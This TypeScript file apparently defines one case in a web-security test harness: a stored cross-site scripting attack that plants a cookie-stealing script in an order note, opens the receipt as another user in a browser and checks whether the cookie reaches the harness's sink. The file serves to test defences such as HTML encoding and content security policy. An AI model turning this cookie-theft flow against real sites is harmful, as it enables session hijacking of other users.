import type { Attack } from "../attack.ts";
import { field, summary } from "../exchange.ts";
import { receiptTwin, SCRIPT_TIMEOUT_MS, stolen } from "./shared/receipt.ts";
import { cookieThief, order, post, receiptPath } from "./shared/requests.ts";

export const xssStored: Attack = {
  id: "xss-stored",
  title: "Run a script in the administrator's browser by an order's note (stored XSS)",
  owasp: ["SAS-7", "CWE-79"],
  paper: "III.2.A",
  defences: ["function:html-encoding", "function:content-security-policy"],
  operation: "getReceipt",
  target: "receipt",
  needs: "browser",
  run: async (context) => {
    const token = context.sink.token();
    const note = cookieThief(context.sink.url, token);
    const placed = await context.send(post(context, "alice", "/orders", { ...order(), note }), "setup");
    const path = receiptPath(String(field(placed, "id")));
    const page = await context.open({ client: "carol", path });
    const hit = await context.sink.waitFor(token, SCRIPT_TIMEOUT_MS);
    return { effect: hit !== undefined, evidence: hit ? stolen("carol", hit) : summary(page) };
  },
  twin: (context) => receiptTwin(context, "carol", {}, context.seed.acme.note),
};
